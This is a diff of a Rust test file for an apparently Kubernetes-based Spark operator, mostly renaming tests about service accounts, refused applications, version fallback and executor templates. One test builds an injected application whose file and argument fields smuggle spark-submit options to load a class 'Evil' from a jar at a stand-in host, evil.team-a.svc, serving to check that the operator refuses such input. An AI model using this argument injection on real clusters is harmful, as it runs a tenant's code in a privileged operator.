@@ -37,7 +37,7 @@ fn an_application_narrows_what_the_admin_allows_and_never_widens_it() {
     }
 }
 
-/// Applications of Kubeflow's SDK name no account, and count on the operator's.
+/// Applications of Kubeflow's SDK name no service account, and rely on a default of the operator.
 #[test]
 fn pods_of_an_application_without_an_account_have_the_admins_default() {
     for submitter in [Submitter::Native, Submitter::SparkSubmit] {
@@ -61,11 +61,11 @@ fn pods_of_an_application_without_an_account_have_the_admins_default() {
     }
 }
 
-/// The four ways by which a tenant's code or files once got into the operator or out of it. The operator no longer
-/// contains anything that runs such code or reads such files: it refuses the application, or plans a submission pod in
-/// the tenant's namespace.
+/// Four ways by which, in an earlier version, a tenant's code ran in the operator or a tenant read the operator's
+/// files. The operator no longer contains anything that runs such code or reads such files: it refuses the application,
+/// or plans a submission pod in the tenant's namespace.
 #[test]
-fn what_runs_tenants_code_or_reads_files_never_does_so_in_the_operator() {
+fn the_operator_runs_no_code_and_reads_no_files_of_tenants() {
     let injected = json!({
         "mainApplicationFile": "--master",
         "arguments": ["local[1]", "--deploy-mode", "client", "--class", "Evil", "http://evil.team-a.svc/x.jar"],
@@ -99,7 +99,7 @@ struct Refused {
 }
 
 #[test]
-fn what_nobody_can_submit_is_refused_with_the_field_and_what_to_do() {
+fn an_application_that_cannot_be_submitted_is_refused_with_field_and_advice() {
     for Refused { spec, asks, is_native, begins, ends } in yaml::<Vec<Refused>>(&data("choice/refused.yaml"))
     {
         let application = asking(program(spec), asks.as_deref());
@@ -111,7 +111,7 @@ fn what_nobody_can_submit_is_refused_with_the_field_and_what_to_do() {
 }
 
 #[test]
-fn a_version_that_is_of_no_line_is_submitted_as_the_nearest_and_that_is_said() {
+fn an_unknown_spark_version_is_submitted_as_the_nearest_with_an_event() {
     let application = program(json!({"sparkVersion": "5.1.0"}));
     let notes = chosen(&application, &policy()).events;
     assert_eq!(notes[0].note, "Spark 5.1.0 is not known here: submitted as Spark 4.3, the nearest line");
@@ -153,7 +153,7 @@ fn without_the_webhook_drivers_are_the_same_and_executors_have_a_template() {
 }
 
 #[test]
-fn what_spark_overwrites_in_the_executors_template_is_said() {
+fn fields_of_executors_that_spark_overwrites_are_reported() {
     let application = program(json!({
         "sparkConf": {"spark.decommission.enabled": "true"},
         "executor": {
@@ -179,7 +179,7 @@ fn what_spark_overwrites_in_the_executors_template_is_said() {
 }
 
 #[test]
-fn executors_have_a_template_that_can_be_written_anew_where_somebody_asks_for_it() {
+fn the_executors_template_is_mutable_if_partial_restart_is_enabled() {
     let cases: Vec<(bool, Option<String>, Value, bool)> = yaml(&data("choice/renewable.yaml"));
     for (gate, annotation, differs, is_renewable) in cases {
         let policy = Policy { partial_restart: gate, ..policy() };
